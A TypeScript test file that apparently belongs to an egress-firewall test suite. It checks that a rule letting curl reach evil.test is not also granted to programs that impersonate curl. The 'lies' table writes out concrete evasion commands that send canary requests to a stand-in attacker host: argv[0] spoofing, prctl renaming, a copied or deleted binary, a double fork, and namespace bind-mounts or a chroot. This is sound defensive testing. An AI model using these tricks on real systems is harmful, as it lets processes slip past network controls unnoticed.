/** Row 96: a rule for one program is not for another that looks like it. */
import { chmodSync, copyFileSync, mkdirSync, realpathSync } from "node:fs"
import { execFileSync } from "node:child_process"
import { join } from "node:path"
import t from "tap"
import { canary, denials, guarded, labFor, whyNoLab } from "./harness.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

t.test("attribution", { skip, timeout: 200_000 }, async (t) => {
  const lab = await labFor(t)
  const curl = realpathSync(
    execFileSync("sh", ["-c", "command -v curl"], { encoding: "utf8" }).trim(),
  )
  const directory = join(lab.directory, "copies")
  mkdirSync(directory)
  chmodSync(lab.directory, 0o755)
  const copy = join(directory, "curl")
  copyFileSync(curl, copy)
  chmodSync(copy, 0o755)
  const more = `allow:\n  - to: evil.test:80\n    by: ${curl}\n`
  const url = (word: string): string => `http://evil.test/${word}`
  const get = (word: string): string =>
    ["-s", "-m", "4", "--resolve", "evil.test:80:198.51.100.66", url(word)].join(" ")
  const python = (word: string, before = ""): string => `${before}
import socket
s = socket.create_connection(("198.51.100.66", 80), 3)
s.sendall(b"GET /${word} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99)
`
  const script = (argv: readonly string[]): string[] => ["bash", "-c", argv.join("\n")]
  const heredoc = (program: string, text: string): string => `${program} - <<'EOT'\n${text}\nEOT`

  await t.test("row 96: the program itself is let through", async (t) => {
    const word = canary()
    const run = await guarded(lab, { mode: "block", more }, script([`${curl} ${get(word)}`]))
    t.ok((await lab.seen(word)).length > 0, run.stderr)
  })

  const lies: Readonly<Record<string, (word: string) => string>> = {
    "argv[0]": (word) => heredoc(`exec -a ${curl} /usr/bin/python3`, python(word)),
    "its own name (comm)": (word) =>
      heredoc(
        "/usr/bin/python3",
        python(word, `import ctypes; ctypes.CDLL(None).prctl(15, b"curl")`),
      ),
    "a copy under another path": (word) => `${copy} ${get(word)}`,
    "a copy that is deleted while it runs": (word) =>
      `cp ${copy} ${directory}/gone; mkfifo ${directory}/pipe; ${directory}/gone -K ${directory}/pipe -s -m 4 & sleep 0.2; rm ${directory}/gone; echo 'url = ${url(word)}\nresolve = evil.test:80:198.51.100.66' > ${directory}/pipe; wait; rm ${directory}/pipe`,
    "a double fork": (word) =>
      `(setsid ${heredoc("/usr/bin/python3", python(word)).replace("\n", " &\n")}\n) ; sleep 1`,
    "a link to another program": (word) =>
      `ln -sf /usr/bin/python3 ${directory}/link; ${heredoc(`exec -a curl ${directory}/link`, python(word))}`,
    "another file over it, in a mount namespace of its own": (word) =>
      `unshare -Urm sh -c 'mount --bind "$(readlink -f /usr/bin/python3)" ${curl}; exec ${curl} "$@"' - -c '${python(word).replaceAll("'", `'"'"'`)}'`,
    "another root": (word) =>
      `mkdir -p ${directory}/root${curl.slice(0, curl.lastIndexOf("/"))}; unshare -Urm sh -c 'mount --rbind / ${directory}/root; mount --bind "$(readlink -f /usr/bin/python3)" ${directory}/root${curl}; exec chroot ${directory}/root ${curl} "$@"' - -c '${python(word)}'`,
  }
  for (const [name, line] of Object.entries(lies)) {
    await t.test(`row 96: ${name}`, async (t) => {
      const free = canary()
      const open = await lab.run(script([line(free)]))
      t.ok((await lab.seen(free)).length > 0, `arrives without a firewall ${open.stderr}`)
      const word = canary()
      const run = await guarded(lab, { mode: "block", more }, script([line(word)]))
      t.strictSame(await lab.seen(word), [], "does not arrive")
      const told = denials(run.events, ["process-not-allowed", "address-not-allowed"])
      if (!t.ok(told.length > 0, "is told"))
        t.comment(run.stderr, run.events.map((e) => JSON.stringify(e)).join("\n"))
    })
  }
})
